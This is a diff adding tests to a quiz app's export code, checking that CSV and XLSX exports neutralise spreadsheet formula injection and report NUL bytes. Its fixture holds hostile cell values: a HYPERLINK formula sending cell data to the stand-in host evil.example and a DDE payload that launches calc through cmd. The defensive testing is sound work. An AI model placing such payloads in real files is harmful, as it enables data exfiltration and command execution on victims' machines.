@@ -190,3 +190,86 @@ def _by_position(question: Question) -> dict[str, Any]:
             if question.type is QuestionType.MULTIPLE:
                 data["answers"] = [ids.index(a) for a in data["answers"]]
     return data
+
+
+HOSTILE = {
+    "prompt": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "choice": "=2+5*cmd!A0",  # (a | would split it: the CSV's separator)
+    "explanation": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "source": "+1 555 0100",
+}
+
+
+def _hostile_pack() -> Any:
+    """The sample pack with texts a spreadsheet would run, where a teacher could type them."""
+    from quiz_app.core.questions import Choice, SingleChoice
+    from quiz_app.core.text import LocalizedText
+
+    original = load_pack(SAMPLE_PACK)
+    first = next(q for q in original.questions if isinstance(q.body, SingleChoice))
+    body = first.body
+    assert isinstance(body, SingleChoice)
+    choices = (
+        Choice(body.choices[0].id, LocalizedText.of({"en": HOSTILE["choice"], "zh": "-5 度"})),
+        *body.choices[1:],
+    )
+    hostile = replace(
+        first,
+        prompt=LocalizedText.of({"en": HOSTILE["prompt"], "zh": "'=1+1"}),
+        body=SingleChoice(choices, body.answer),
+        explanation=LocalizedText.of({"en": HOSTILE["explanation"], "zh": "@你好"}),
+        source=HOSTILE["source"],
+    )
+    questions = tuple(hostile if q is first else q for q in original.questions)
+    return replace(original, questions=questions), hostile.key
+
+
+def test_a_csv_export_runs_nothing_in_a_spreadsheet_and_reads_back_exactly(
+    tmp_path: Path,
+) -> None:
+    import csv
+    import io
+
+    pack, key = _hostile_pack()
+    text = csv_text(pack)
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(" in text
+    path = tmp_path / "hostile.csv"
+    path.write_text(text, encoding="utf-8")
+    again = next(q for q in load_any(path).questions if q.key == key)
+    before = next(q for q in pack.questions if q.key == key)
+    assert again.prompt == before.prompt  # "'=1+1" in Chinese too: the quote kept
+    assert again.explanation == before.explanation
+    assert again.source == before.source
+    assert again.body == before.body
+
+
+def test_an_xlsx_export_holds_text_cells_never_formulas(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    from quiz_app.packs.spreadsheet import xlsx_bytes
+
+    pack, key = _hostile_pack()
+    path = tmp_path / "hostile.xlsx"
+    path.write_bytes(xlsx_bytes(pack))
+    sheet = load_workbook(path).active
+    assert sheet is not None
+    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
+    assert "f" not in kinds  # not one formula
+    assert HOSTILE["prompt"] in [cell.value for row in sheet.iter_rows() for cell in row]
+    again = next(q for q in load_any(path).questions if q.key == key)
+    assert again.prompt == next(q for q in pack.questions if q.key == key).prompt
+
+
+def test_a_nul_byte_in_a_cell_is_a_located_problem(tmp_path: Path) -> None:
+    path = _csv(
+        tmp_path,
+        "a,single,T,1,Fine question?,,x | y,,A,,,,,,,",
+        "b,single,T,1,Hidden\x00text?,,x | y,,A,,,,,,,",
+    )
+    with pytest.raises(PackError) as caught:
+        load_csv(path)
+    [problem] = caught.value.problems
+    assert str(problem).startswith(f"{path}:3: question 'b': ")
+    assert "U+0000" in str(problem)
